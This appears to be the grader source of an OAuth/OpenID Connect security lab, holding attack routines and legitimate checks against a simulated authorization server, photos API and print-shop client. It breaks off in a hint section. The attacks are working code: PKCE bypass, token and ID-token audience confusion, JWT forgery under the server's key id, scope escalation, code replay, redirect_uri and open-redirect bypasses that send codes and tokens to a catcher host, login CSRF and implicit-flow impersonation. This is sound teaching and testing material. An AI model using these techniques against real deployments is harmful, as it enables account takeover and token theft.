"""Lesson 08's battery: the attacks and legitimate checks the grader replays.

Each row plays its parties over real HTTP with the grader's client (so every status it sees
is judged): alice's browser at the authorization server (log in, consent), the client that
redeems the code, the photos API. The attacks here need no victim browser: an intercepted
code redeemed without PKCE, a token not meant for the photos API, a scope the client was
not registered for or the user did not consent to, a code redeemed twice. The attacks that
need the victim and the client app (redirect_uri, open redirect, state, implicit, nonce)
come with ``lab.victim``.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import re
import secrets
import time
import uuid
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

from labapp.engine.grading import Attack, Check, Observed
from labapp.engine.http import lab_client
from labapp.lessons.l08_oauth.people import (
    QUIZ,
    QUIZ_CALLBACK,
    RESOURCE_SERVER,
    SERVICE,
    SPA,
    WEB_APP,
)

# -- the parties, played over HTTP -------------------------------------------------------------


def _unescape(text: str) -> str:
    return text.replace("&amp;", "&").replace("&quot;", '"')


def _password(lab: Any, user: str) -> str:
    return next(u["password"] for u in lab.users if u["username"] == user)


def _field(name: str, text: str) -> str | None:
    found = re.search(rf'name={name} value="([^"]*)"', text)
    return _unescape(found[1]) if found else None


def consent(
    lab: Any, http: httpx.Client, query: dict[str, str], keep: set[str] | None = None
) -> httpx.Response:
    """alice's browser at /authorize: log in, tick ``keep`` (None: every box), allow.

    Returns the authorization server's last answer (a redirect to the client, or the page
    or error that stopped the flow). ``http`` keeps the session cookie, as a browser does.
    """
    page = http.get("/authorize", params=query)
    if page.status_code != 200 or "name=next" not in page.text:
        return page
    login = http.post(
        "/login",
        data={
            "username": "alice",
            "password": _password(lab, "alice"),
            "next": _field("next", page.text) or "",
        },
    )
    if login.status_code != 303:
        return login
    form = http.get(login.headers["location"])
    csrf, action = (
        _field("csrf", form.text),
        re.search(r'form method=post action="([^"]+)"', form.text),
    )
    if form.status_code != 200 or csrf is None or action is None:
        return form
    offered = re.findall(r'name=consented_scope value="([^"]+)"', form.text)
    ticked = [s for s in offered if keep is None or s in keep]
    return http.post(
        _unescape(action[1]),
        data={"csrf": csrf, "decision": "allow", "consented_scope": ticked},
    )


def callback_params(answer: httpx.Response) -> dict[str, str]:
    """The query of the redirect back to the client ({} when the flow did not get there)."""
    if answer.status_code not in (302, 303) or "location" not in answer.headers:
        return {}
    return {k: v[0] for k, v in parse_qs(urlsplit(answer.headers["location"]).query).items()}


def s256(verifier: str) -> str:
    digest = hashlib.sha256(verifier.encode()).digest()
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def spa_request(lab: Any, scope: str, **extra: str) -> dict[str, str]:
    """The public client's authorization request (state and nonce fresh), plus ``extra``."""
    return {
        "response_type": "code",
        "client_id": SPA,
        "redirect_uri": lab.net.clients[SPA]["redirect_uris"][0],
        "scope": scope,
        "state": secrets.token_urlsafe(12),
        "nonce": secrets.token_urlsafe(12),
        **extra,
    }


def redeem(lab: Any, http: httpx.Client, code: str, verifier: str | None) -> httpx.Response:
    """The public client's token request for ``code`` (no verifier when None)."""
    data = {
        "grant_type": "authorization_code",
        "code": code,
        "client_id": SPA,
        "redirect_uri": lab.net.clients[SPA]["redirect_uris"][0],
    }
    if verifier is not None:
        data["code_verifier"] = verifier
    return http.post("/token", data=data)


def spa_login(
    lab: Any,
    http: httpx.Client,
    scope: str = "openid profile photos:read",
    keep: set[str] | None = None,
) -> tuple[httpx.Response, str]:
    """A full code + PKCE S256 login of the public client: (the token answer, what it says)."""
    verifier = secrets.token_urlsafe(48)
    query = spa_request(lab, scope, code_challenge=s256(verifier), code_challenge_method="S256")
    answer = consent(lab, http, query, keep)
    params = callback_params(answer)
    if "code" not in params:
        why = params.get("error_description") or params.get("error") or answer.text[:120]
        return answer, f"no code at the callback (HTTP {answer.status_code}: {why})"
    if params.get("state") != query["state"]:
        return answer, "the callback's state is not the one sent"
    tokens = redeem(lab, http, params["code"], verifier)
    return tokens, f"token request: HTTP {tokens.status_code}"


def photos(lab: Any, http: httpx.Client, token: str, method: str = "GET") -> httpx.Response:
    url = lab.net.api_url + "/photos"
    return http.request(method, url, headers={"Authorization": f"Bearer {token}"})


def introspect(lab: Any, http: httpx.Client, token: str) -> bool:
    """Is ``token`` still active, asked as the photos API (RFC 7662)?"""
    rs = lab.net.clients[RESOURCE_SERVER]
    answer = http.post(
        "/introspect", auth=(rs["client_id"], rs["client_secret"]), data={"token": token}
    )
    return answer.status_code == 200 and answer.json().get("active") is True


def granted(answer: httpx.Response) -> set[str] | None:
    """The scopes a token answer granted (None: no token)."""
    if answer.status_code != 200:
        return None
    body = answer.json()
    if "access_token" not in body:
        return None
    scope = body.get("scope")
    if scope is None:  # RFC 6749 §5.1: omitted means as requested; the token itself says
        scope = jwt.decode(body["access_token"], options={"verify_signature": False}).get("scope")
    return set(str(scope or "").split())


def _mint(lab: Any, claims: dict[str, Any], typ: str) -> str:
    """A token signed with the issuer's own key: what the same authorization server issues
    for another API, or to another client."""
    key = lab.net.auth.key
    pem = key.as_pem(private=True)
    return jwt.encode(claims, pem, "RS256", headers={"kid": key.kid, "typ": typ})


@functools.cache
def _attackers_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)  # ~100 ms: once


def _forge(lab: Any, claims: dict[str, Any]) -> str:
    """A token signed with a key the attacker made, under the AS's ``kid``."""
    headers = {"kid": lab.net.auth.key.kid, "typ": "at+jwt"}
    return jwt.encode(claims, _attackers_key(), "RS256", headers=headers)


# -- the attacks -------------------------------------------------------------------------------


def run_pkce_missing(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.1.1, §4.5: a public client's code, intercepted on its way back (a custom
    scheme, a log, a Referer), is redeemed by whoever holds it when nothing binds it to the
    flow that asked for it. Without PKCE the code alone is enough; with ``plain`` the
    verifier is the challenge, which travelled in the authorization URL."""
    seen = []
    visible = secrets.token_urlsafe(48)
    variants = (
        ("no code_challenge", {}, None),
        ("plain", {"code_challenge": visible, "code_challenge_method": "plain"}, visible),
    )
    for label, extra, verifier in variants:
        http.cookies.clear()
        answer = consent(lab, http, spa_request(lab, "openid photos:read", **extra))
        params = callback_params(answer)
        if "code" not in params:
            why = params.get("error_description") or params.get("error") or answer.status_code
            seen.append(f"{label}: no code issued ({why})")
            continue
        tokens = redeem(lab, http, params["code"], verifier)  # the interceptor's request
        if granted(tokens) is not None:
            how = "without a verifier" if verifier is None else "with the challenge as verifier"
            return Observed(True, 200, f"{label}: the intercepted code was redeemed {how}")
        seen.append(f"{label}: redemption refused (HTTP {tokens.status_code})")
    return Observed(False, 400, "; ".join(seen))


def run_token_audience(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9068 §4, RFC 9700 §2.3: the photos API must take only access tokens minted for it
    (typ at+jwt, aud photos-api). An ID token is for the client; a token for another API is
    for that API."""
    tokens, detail = spa_login(lab, http)
    if granted(tokens) is None:
        raise RuntimeError(f"the legitimate login the attack starts from failed: {detail}")
    body = tokens.json()
    issuer, now = lab.net.issuer, int(time.time())
    access = jwt.decode(body["access_token"], options={"verify_signature": False})
    base = {"iss": issuer, "sub": "alice", "iat": now, "exp": now + 300}
    candidates = [
        ("the login's ID token", body.get("id_token")),
        (
            "an access token of the same issuer for another API (aud billing-api)",
            _mint(
                lab,
                {**access, "aud": "billing-api", "jti": uuid.uuid4().hex, "iat": now},
                "at+jwt",
            ),
        ),
        (
            "an ID token whose aud lists the photos API beside the client (typ JWT)",
            _mint(
                lab,
                {
                    **base,
                    "aud": [SPA, lab.net.audience],
                    "azp": SPA,
                    "client_id": SPA,
                    "jti": uuid.uuid4().hex,
                    "scope": "openid profile photos:read",
                    "auth_time": now,
                    "nonce": secrets.token_urlsafe(8),
                },
                "JWT",
            ),
        ),
    ]
    genuine = {**access, "jti": uuid.uuid4().hex, "iat": now}
    candidates += [
        (
            "an access token for photos-api from another issuer (iss login.example.test)",
            _mint(lab, {**genuine, "iss": "https://login.example.test"}, "at+jwt"),
        ),
        (
            "an access token for photos-api signed with the attacker's own key (the AS's kid)",
            _forge(lab, genuine),
        ),
    ]
    refused = []
    for label, token in candidates:
        if not token:
            continue
        answer = photos(lab, http, token)
        if answer.status_code == 200:
            return Observed(True, 200, f"GET /photos took {label}")
        refused.append(f"{label}: {answer.status_code}")
    reader = _service_token(lab, http, "photos:read")
    if reader:  # the right API, the wrong scope for the route
        answer = photos(lab, http, reader, "POST")
        if answer.status_code < 300:
            return Observed(True, answer.status_code, "POST /photos took a photos:read token")
        refused.append(f"a photos:read token on POST: {answer.status_code}")
    return Observed(False, 401, "refused " + "; ".join(refused))


def service_token_request(lab: Any, http: httpx.Client, scope: str) -> httpx.Response:
    """print-service asks for ``scope`` by client credentials (RFC 6749 §4.4)."""
    service = lab.net.clients[SERVICE]
    return http.post(
        lab.net.issuer + "/token",
        auth=(service["client_id"], service["client_secret"]),
        data={"grant_type": "client_credentials", "scope": scope},
    )


def _service_token(lab: Any, http: httpx.Client, scope: str) -> str | None:
    """print-service's client-credentials access token for ``scope``."""
    answer = service_token_request(lab, http, scope)
    return answer.json().get("access_token") if answer.status_code == 200 else None


def run_scope_escalation(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.3 (least privilege), RFC 6749 §3.3: a client gets at most what it was
    registered for, what it asked for and what the user consented to."""
    answer = service_token_request(lab, http, "photos:read photos:write")
    scopes = granted(answer)
    if scopes is not None and "photos:write" in scopes:
        return Observed(
            True, 200, f"{SERVICE} (registered for photos:read) was granted photos:write"
        )
    seen = [f"unregistered photos:write: HTTP {answer.status_code}, granted {sorted(scopes or [])}"]
    http.cookies.clear()
    asked = "openid profile photos:read photos:write"
    tokens, detail = spa_login(lab, http, asked, keep={"openid", "profile", "photos:read"})
    scopes = granted(tokens)
    if scopes is not None and "photos:write" in scopes:
        return Observed(True, 200, "alice unticked photos:write, and the token has it anyway")
    seen.append(f"unconsented photos:write: {detail}, granted {sorted(scopes or [])}")
    http.cookies.clear()
    tokens, detail = spa_login(lab, http, asked, keep=set())
    scopes = granted(tokens)
    if scopes:  # alice unticked every box: an empty consent is a consent to nothing
        return Observed(True, 200, f"alice consented to nothing, the token has {sorted(scopes)}")
    seen.append(f"consent to nothing: granted {sorted(scopes or [])}")
    return Observed(False, 400, "; ".join(seen))


def run_code_reuse(lab: Any, http: httpx.Client) -> Observed:
    """RFC 6749 §4.1.2: a code is used once; a second use must fail and should revoke the
    tokens the first one issued (whoever replays it may be the thief, or the client)."""
    verifier = secrets.token_urlsafe(48)
    query = spa_request(
        lab, "openid photos:read", code_challenge=s256(verifier), code_challenge_method="S256"
    )
    params = callback_params(consent(lab, http, query))
    if "code" not in params:
        raise RuntimeError(f"the legitimate login the attack starts from failed: {params}")
    first = redeem(lab, http, params["code"], verifier)
    if granted(first) is None:
        raise RuntimeError(f"the code's first redemption failed: HTTP {first.status_code}")
    second = redeem(lab, http, params["code"], verifier)
    if granted(second) is not None:
        return Observed(True, 200, "the code was redeemed a second time")
    if introspect(lab, http, first.json()["access_token"]):
        return Observed(
            True,
            second.status_code,
            "the second use was refused, but the first redemption's access token is still active",
        )
    return Observed(False, second.status_code, "second use refused and the first tokens revoked")


# -- the attacks through the victim's browser and PrintShop -------------------------------------


def spa_authorize_url(lab: Any, redirect_uri: str, **extra: str) -> str:
    """photo-spa's authorize link with ``redirect_uri`` (state and nonce fresh)."""
    query = {
        "response_type": "code",
        "client_id": SPA,
        "redirect_uri": redirect_uri,
        "scope": "openid photos:read",
        "state": secrets.token_urlsafe(12),
        "nonce": secrets.token_urlsafe(12),
        **extra,
    }
    return lab.net.issuer + "/authorize?" + urlencode(query)


def share_link(lab: Any, http: httpx.Client, url: str) -> str:
    """A PrintShop share link (any customer may make one) that leads to ``url``."""
    answer = http.post(lab.net.client_url + "/share", data={"url": url})
    return lab.net.client_url + answer.json()["link"]


def redeem_at(
    lab: Any, http: httpx.Client, code: str, redirect_uri: str, verifier: str, client: str = SPA
) -> httpx.Response:
    data = {
        "grant_type": "authorization_code",
        "code": code,
        "client_id": client,
        "redirect_uri": redirect_uri,
        "code_verifier": verifier,
    }
    return http.post(lab.net.issuer + "/token", data=data)


def run_redirect_uri(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §4.1, §2.1: a redirect_uri matched by prefix (or by origin, or sub-path)
    sends the victim's code to any page of the client's origin; one that forwards (here a
    share link anyone can make) hands it to the attacker, who redeems it with his own PKCE."""
    catcher = lab.net.catcher()
    link = share_link(lab, http, catcher.url + "/steal")
    registered = lab.net.clients[SPA]["redirect_uris"][0]
    variants = (
        ("a path below the registered one", f"{registered}/../..{urlsplit(link).path}"),
        ("another page of the client's origin", link),
    )
    seen = []
    for label, evil in variants:
        verifier = secrets.token_urlsafe(48)
        url = spa_authorize_url(
            lab, evil, code_challenge=s256(verifier), code_challenge_method="S256"
        )
        answer = lab.net.victim.visit(url)
        codes = catcher.values("code")
        if not codes:
            seen.append(f"{label}: no code reached the catcher (HTTP {answer.status_code})")
            continue
        tokens = redeem_at(lab, http, codes[-1], evil, verifier)
        if granted(tokens) is None:
            seen.append(f"{label}: the caught code was refused (HTTP {tokens.status_code})")
            continue
        owner = photos(lab, http, tokens.json()["access_token"]).json().get("owner")
        return Observed(True, 200, f"{label}: bob's code caught and redeemed ({owner}'s photos)")
    return Observed(False, 400, "; ".join(seen))


def next_targets(lab: Any, catcher_url: str) -> list[str]:
    """Where /next?url= is told to go: the catcher, spelled to slip past weak checks."""
    netloc = urlsplit(catcher_url).netloc
    return [
        catcher_url + "/steal",
        f"//{netloc}/steal",  # protocol-relative: "starts with a slash"
        f"{lab.net.client_url}@{netloc}/steal",  # userinfo: "starts with our origin"
    ]


def run_open_redirect(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §4.11.1 with §4.1: PrintShop's /next?url= forwards anywhere (with the
    query, and the browser keeps the fragment), and the authorization server lets a
    redirect_uri walk from the registered callback to it. The implicit flow's token rides
    in the fragment; a code rides in the query."""
    catcher = lab.net.catcher()
    registered = lab.net.clients[SPA]["redirect_uris"][0]
    seen = []
    for target in next_targets(lab, catcher.url):
        evil = f"{registered}/../../next?" + urlencode({"url": target})
        verifier = secrets.token_urlsafe(48)
        for response_type in ("token", "code"):
            pkce = {"code_challenge": s256(verifier), "code_challenge_method": "S256"}
            extra = pkce if response_type == "code" else {"scope": "photos:read"}
            url = spa_authorize_url(lab, evil, response_type=response_type, **extra)
            answer = lab.net.victim.visit(url)
            token = None
            if catcher.values("access_token"):
                token = catcher.values("access_token")[-1]
            elif catcher.values("code"):
                tokens = redeem_at(lab, http, catcher.values("code")[-1], evil, verifier)
                token = tokens.json().get("access_token") if tokens.status_code == 200 else None
            if token:
                owner = photos(lab, http, token).json().get("owner")
                return Observed(
                    True, 200, f"{response_type} via /next?url={target}: {owner}'s photos"
                )
            seen.append(f"{response_type} via {target}: HTTP {answer.status_code}")
    return Observed(False, 400, "nothing reached the catcher: " + "; ".join(seen[:2]))


def _attackers_link_callback(lab: Any) -> str:
    """alice (the attacker) starts "link your photo account" at PrintShop and keeps the
    callback link instead of following it."""
    attacker = lab.net.browser("alice")
    shop = lab.net.client_url
    attacker.get(shop + "/login")
    attacker.get(shop + "/link", stop_before=shop + "/shop/callback")
    if attacker.url is None or "code=" not in attacker.url:
        raise RuntimeError(f"the attacker's own link flow failed: {attacker.flow()}")
    return attacker.url


def run_login_csrf(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §4.7, RFC 6749 §10.12: a callback the victim's browser did not start must
    be refused (state bound to the session). Otherwise the attacker's callback link, sent
    to bob, links bob's PrintShop account to the attacker's photo account: bob's uploads
    and orders go there."""
    link = _attackers_link_callback(lab)
    victim = lab.net.browser("bob")
    victim.get(lab.net.client_url + "/login")  # bob signed in at PrintShop
    answer = victim.get(link)
    prints = victim.get(lab.net.client_url + "/prints")
    body = prints.json() if prints.status_code == 200 else {}
    if body.get("shop_user") == "bob" and body.get("photo_account") == "alice":
        return Observed(True, 200, "bob's PrintShop account is linked to alice's photos")
    return Observed(False, answer.status_code, f"the foreign callback: HTTP {answer.status_code}")


def _own_token(lab: Any, http: httpx.Client, user: str) -> str:
    """``user``'s own photo-spa access token: the implicit flow if the AS allows it (the
    token in the fragment), else code + PKCE."""
    browser = lab.net.browser(user)
    registered = lab.net.clients[SPA]["redirect_uris"][0]
    browser.get(spa_authorize_url(lab, registered, response_type="token"), stop_before=registered)
    fragment = parse_qs(urlsplit(browser.url or "").fragment)
    if "access_token" in fragment:
        return fragment["access_token"][0]
    verifier = secrets.token_urlsafe(48)
    url = spa_authorize_url(
        lab, registered, code_challenge=s256(verifier), code_challenge_method="S256"
    )
    browser.get(url, stop_before=registered)
    code = parse_qs(urlsplit(browser.url or "").query).get("code", [""])[0]
    return str(redeem_at(lab, http, code, registered, verifier).json().get("access_token", ""))


def run_implicit_flow(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.1.2 (no implicit flow) and PortSwigger's "authentication bypass via
    OAuth implicit flow": the old app posts the fragment's token *and the user it names*;
    PrintShop signs in whoever is named, with the attacker's own valid token."""
    token = _own_token(lab, http, "alice")
    with lab_client(lab.net.client_url) as shop:
        answer = shop.post("/spa/session", data={"access_token": token, "sub": "bob"})
        prints = shop.get("/prints")
    who = prints.json().get("shop_user") if prints.status_code == 200 else None
    if who == "bob":
        return Observed(True, 200, "alice's token posted with sub=bob: signed in as bob")
    return Observed(False, answer.status_code, f"signed in as {who} (HTTP {answer.status_code})")


def _id_token(lab: Any, http: httpx.Client, user: str, nonce: str) -> str | None:
    """``user``'s photo-spa ID token from a code + PKCE login with ``nonce`` (None when the
    login ends without one)."""
    browser = lab.net.browser(user)
    registered = lab.net.clients[SPA]["redirect_uris"][0]
    verifier = secrets.token_urlsafe(48)
    pkce = {"code_challenge": s256(verifier), "code_challenge_method": "S256"}
    browser.get(spa_authorize_url(lab, registered, nonce=nonce, **pkce), stop_before=registered)
    code = parse_qs(urlsplit(browser.url or "").query).get("code", [""])[0]
    tokens = redeem_at(lab, http, code, registered, verifier)
    return tokens.json().get("id_token") if tokens.status_code == 200 else None


def run_nonce(lab: Any, http: httpx.Client) -> Observed:
    """OIDC Core §3.1.3.7 step 11, RFC 9700 §4.5.3.2: bob's ID token from his own sign-in
    (captured from a log, a leaked fragment, a malicious app) replayed into another sign-in
    at PrintShop. Signature, issuer, audience and expiry all hold; only the nonce says it
    was minted for another flow."""
    stolen = _id_token(lab, http, "bob", secrets.token_urlsafe(12))
    if stolen is None:
        return Observed(False, 400, "bob's sign-in gave no ID token to replay")
    seen = []
    for label, ask_nonce in (("with a fresh nonce", True), ("without asking a nonce", False)):
        with lab_client(lab.net.client_url) as shop:
            if ask_nonce:
                shop.get("/spa/nonce")
            answer = shop.post("/spa/session", data={"id_token": stolen})
            prints = shop.get("/prints")
        who = prints.json().get("shop_user") if prints.status_code == 200 else None
        if who == "bob":
            return Observed(True, 200, f"bob's ID token replayed {label}: signed in as bob")
        seen.append(f"{label}: HTTP {answer.status_code}")
    return Observed(False, 401, "; ".join(seen))


def run_implicit_token(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.1.2: the implicit grant SHOULD NOT be used. photo-spa's registration
    still lists ``token``; the server must refuse it anyway, or the access token rides in
    the URL fragment (history, referrers, a script on the page, an open redirect)."""
    browser = lab.net.browser("alice")
    registered = lab.net.clients[SPA]["redirect_uris"][0]
    browser.get(spa_authorize_url(lab, registered, response_type="token"), stop_before=registered)
    fragment = parse_qs(urlsplit(browser.url or "").fragment)
    if "access_token" in fragment:
        return Observed(True, 302, "response_type=token: an access token in the URL fragment")
    status = browser.hops[-1].status if browser.hops else 0
    error = parse_qs(urlsplit(browser.url or "").query).get("error", ["no token"])[0]
    return Observed(False, status, f"response_type=token refused: error={error}")


def run_password_grant(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.4: the resource owner password credentials grant MUST NOT be used. The
    app would hold alice's password (and could keep it), and no second factor or consent
    screen fits in a token request."""
    answer = http.post(
        lab.net.issuer + "/token",
        data={
            "grant_type": "password",
            "client_id": SPA,
            "username": "alice",
            "password": _password(lab, "alice"),
            "scope": "photos:read",
        },
    )
    if answer.status_code == 200 and "access_token" in answer.json():
        return Observed(True, 200, "photo-spa traded alice's password for her access token")
    error = (
        answer.json().get("error")
        if answer.headers.get("content-type", "").startswith("application/json")
        else None
    )
    return Observed(False, answer.status_code, f"grant_type=password refused: error={error}")


def quiz_app_login(lab: Any, http: httpx.Client, user: str, nonce: str) -> httpx.Response:
    """``user`` signs in at quiz-app (someone else's app on the same AS) with ``nonce``;
    the token answer quiz-app gets (code + PKCE S256)."""
    code_verifier = secrets.token_urlsafe(48)
    query = {
        "response_type": "code",
        "client_id": QUIZ,
        "redirect_uri": QUIZ_CALLBACK,
        "scope": "openid profile",
        "state": secrets.token_urlsafe(12),
        "nonce": nonce,
        "code_challenge": s256(code_verifier),
        "code_challenge_method": "S256",
    }
    browser = lab.net.browser(user)
    browser.get(lab.net.issuer + "/authorize?" + urlencode(query), stop_before=QUIZ_CALLBACK)
    code = parse_qs(urlsplit(browser.url or "").query).get("code", [""])[0]
    return redeem_at(lab, http, code, QUIZ_CALLBACK, code_verifier, client=QUIZ)


def run_id_token_audience(lab: Any, http: httpx.Client) -> Observed:
    """OIDC Core §3.1.3.7 step 3: an ID token is for the client its ``aud`` names. The
    attacker runs quiz-app, another client of the same AS; bob signs in there, with the
    nonce the attacker took from PrintShop. His ID token (aud quiz-app) then signs the
    attacker in at PrintShop as bob: signature, expiry and nonce all hold."""
    with lab_client(lab.net.client_url) as shop:
        nonce = shop.get("/spa/nonce").json()["nonce"]
        tokens = quiz_app_login(lab, http, "bob", nonce)
        id_token = tokens.json().get("id_token") if tokens.status_code == 200 else None
        if id_token is None:
            return Observed(False, tokens.status_code, "bob's quiz-app sign-in gave no ID token")
        answer = shop.post("/spa/session", data={"id_token": id_token})
        prints = shop.get("/prints")
    who = prints.json().get("shop_user") if prints.status_code == 200 else None
    if who == "bob":
        return Observed(True, 200, "bob's ID token for quiz-app signed the attacker in as bob")
    seen = [f"quiz-app's: HTTP {answer.status_code}"]
    # ID tokens other deployments issue, signed with this AS's key: one more audience
    # (untrusted), azp naming another client, another issuer (OIDC Core §3.1.3.7 steps 2-5)
    for label, change in (
        ("aud [photo-spa, quiz-app]", {"aud": [SPA, QUIZ]}),
        ("azp quiz-app", {"azp": QUIZ}),
        ("iss another issuer", {"iss": "https://login.example.test"}),
    ):
        with lab_client(lab.net.client_url) as shop:
            nonce = shop.get("/spa/nonce").json()["nonce"]
            now = int(time.time())
            claims = {"iss": lab.net.issuer, "sub": "bob", "aud": SPA, "iat": now}
            claims |= {"exp": now + 300, "nonce": nonce, **change}
            answer = shop.post("/spa/session", data={"id_token": _mint(lab, claims, "JWT")})
            prints = shop.get("/prints")
        if prints.status_code == 200 and prints.json().get("shop_user") == "bob":
            return Observed(True, 200, f"an ID token with {label} signed the attacker in as bob")
        seen.append(f"{label}: HTTP {answer.status_code}")
    return Observed(False, 401, "refused " + "; ".join(seen))


# -- the legitimate checks ---------------------------------------------------------------------


def check_shop_login(lab: Any, http: httpx.Client) -> Observed:
    browser = lab.net.browser("alice")
    answer = browser.get(lab.net.client_url + "/prints")
    body = answer.json() if answer.status_code == 200 else {}
    ok = body.get("shop_user") == "alice" and "Lighthouse at dawn" in str(body.get("prints"))
    return Observed(
        ok, answer.status_code, f"alice at PrintShop /prints: {body or answer.text[:80]}"
    )


def check_shop_link(lab: Any, http: httpx.Client) -> Observed:
    browser = lab.net.browser("alice")
    browser.get(lab.net.client_url + "/login")
    answer = browser.get(lab.net.client_url + "/link")
    body = answer.json() if answer.status_code == 200 else {}
    ok = body.get("photo_account") == "alice" and "flag" not in body
    return Observed(
        ok, answer.status_code, f"alice links her photo account: {body or answer.status_code}"
    )


def check_logout(lab: Any, http: httpx.Client) -> Observed:
    """alice signs in at PrintShop, then out: her shop session ends, and the tokens the
    shop held for her are revoked at the AS (judged by introspection, not by a page)."""
    records = lab.net.auth.records
    before = {id(t) for t in records.tokens}
    browser = lab.net.browser("alice")
    if browser.get(lab.net.client_url + "/prints").status_code != 200:
        return Observed(False, browser.hops[-1].status, "alice could not sign in at PrintShop")
    held = [t for t in records.tokens if id(t) not in before and t.client_id == WEB_APP]
    answer = browser.post(lab.net.client_url + "/logout", {})
    browser.get(lab.net.client_url + "/prints", stop_before=lab.net.issuer)
    active = [t for t in held if introspect(lab, http, t.access_token)]  # asked as the API
    signed_out = (browser.url or "").startswith(lab.net.issuer)
    ok = bool(held) and not active and signed_out
    return Observed(
        ok,
        answer.status_code,
        f"after logout: {len(active)} of the shop's {len(held)} tokens still active, "
        f"/prints {'asks to sign in' if signed_out else 'still open'}",
    )


def check_spa_id_token(lab: Any, http: httpx.Client) -> Observed:
    with lab_client(lab.net.client_url) as shop:
        nonce = shop.get("/spa/nonce").json()["nonce"]
        id_token = _id_token(lab, http, "alice", nonce)
        if id_token is None:
            return Observed(False, 400, "alice's photo-spa login gave no ID token")
        answer = shop.post("/spa/session", data={"id_token": id_token})
        prints = shop.get("/prints")
    who = prints.json().get("shop_user") if prints.status_code == 200 else None
    ok = who == "alice" and "flag" not in prints.json()
    return Observed(ok, answer.status_code, f"the old app's ID-token sign-in: signed in as {who}")


def check_spa_token(lab: Any, http: httpx.Client) -> Observed:
    with lab_client(lab.net.client_url) as shop:
        answer = shop.post("/spa/session", data={"access_token": _own_token(lab, http, "alice")})
        prints = shop.get("/prints")
    body = prints.json() if prints.status_code == 200 else {}
    ok = body.get("shop_user") == "alice" and "Lighthouse at dawn" in str(body.get("prints"))
    return Observed(
        ok, answer.status_code, f"the old app posts alice's token: {body.get('shop_user')}"
    )


def check_login(lab: Any, http: httpx.Client) -> Observed:
    asked = {"openid", "profile", "photos:read"}
    tokens, detail = spa_login(lab, http, " ".join(sorted(asked)))
    scopes = granted(tokens)
    if scopes is None:
        return Observed(False, tokens.status_code, detail)
    if not asked <= scopes or "id_token" not in tokens.json():
        return Observed(
            False,
            200,
            f"granted {sorted(scopes)} (asked {sorted(asked)})",
            cause="denied too much: the user consented to all of it",
        )
    return Observed(True, 200, "code + PKCE S256 login: an access token and an ID token")


def check_consent(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(
        lab, http, "openid profile photos:read", keep={"openid", "photos:read"}
    )
    scopes = granted(tokens)
    if scopes is None or not {"openid", "photos:read"} <= scopes:
        return Observed(False, tokens.status_code, f"{detail}; granted {sorted(scopes or [])}")
    return Observed(True, 200, f"alice unticked profile and logged in: granted {sorted(scopes)}")


def check_refresh(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(lab, http)
    if granted(tokens) is None or "refresh_token" not in tokens.json():
        return Observed(False, tokens.status_code, f"{detail}, no refresh token")
    answer = http.post(
        "/token",
        data={
            "grant_type": "refresh_token",
            "refresh_token": tokens.json()["refresh_token"],
            "client_id": SPA,
        },
    )
    if granted(answer) is None:
        return Observed(False, answer.status_code, f"refresh: HTTP {answer.status_code}")
    api = photos(lab, http, answer.json()["access_token"])
    return Observed(api.status_code == 200, api.status_code, "refreshed token on GET /photos")


def check_client_credentials(lab: Any, http: httpx.Client) -> Observed:
    answer = service_token_request(lab, http, "photos:read")
    scopes = granted(answer)
    if scopes is None or "photos:read" not in scopes:
        return Observed(False, answer.status_code, f"client credentials: granted {scopes}")
    api = photos(lab, http, answer.json()["access_token"])
    detail = f"{SERVICE}'s photos:read token on GET /photos: HTTP {api.status_code}"
    return Observed(api.status_code == 200, api.status_code, detail)


def check_api_scope(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(lab, http, "openid photos:read photos:write")
    if granted(tokens) is None:
        return Observed(False, tokens.status_code, detail)
    token = tokens.json()["access_token"]
    read, write = photos(lab, http, token), photos(lab, http, token, "POST")
    ok = read.status_code == 200 and write.status_code == 200
    detail = f"GET /photos {read.status_code}, POST /photos {write.status_code}"
    return Observed(ok, write.status_code if read.status_code == 200 else read.status_code, detail)


# -- hint ladders: nudge, technique (with its reference), steps -----------------------------

_LOGIN = '''import re, secrets, httpx
from urllib.parse import parse_qs, urlencode, urlsplit

def alice_authorizes(params):
    """alice's browser: log in, allow everything; returns the query sent to the client."""
    pw = next(u["password"] for u in lab.users if u["username"] == "alice")
    with httpx.Client(base_url=lab.url) as b:
        page = b.get("/authorize", params=params)
        nxt = re.search(r'name=next value="([^"]+)"', page.text)[1].replace("&amp;", "&")
        form = b.get(b.post("/login", data={"username": "alice", "password": pw,
                                            "next": nxt}).headers["location"])
        csrf = re.search(r'name=csrf value="([^"]+)"', form.text)[1]
        action = re.search(r'action="([^"]+)"', form.text)[1].replace("&amp;", "&")
        ticks = re.findall(r'name=consented_scope value="([^"]+)"', form.text)
        answer = b.post(action, data={"csrf": csrf, "decision": "allow",
                                      "consented_scope": ticks})
    return {k: v[0] for k, v in parse_qs(urlsplit(answer.headers["location"]).query).items()}

spa = lab.net.clients["photo-spa"]
'''

# alice's code + PKCE S256 login as photo-spa: the start of two recipes
_PKCE_LOGIN = (
    _LOGIN
    + """import base64, hashlib
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=")
query = alice_authorizes({"response_type": "code", "client_id": "photo-spa",
                          "redirect_uri": spa["redirect_uris"][0], "scope": "openid photos:read",
                          "state": secrets.token_urlsafe(8), "nonce": secrets.token_urlsafe(8),
                          "code_challenge": challenge.decode(), "code_challenge_method": "S256"})
"""
)

HINTS: dict[str, tuple[str, ...]] = {
    "pkce-missing": (
        "photo-spa is a public client: it has no secret. What else, at the token endpoint, "
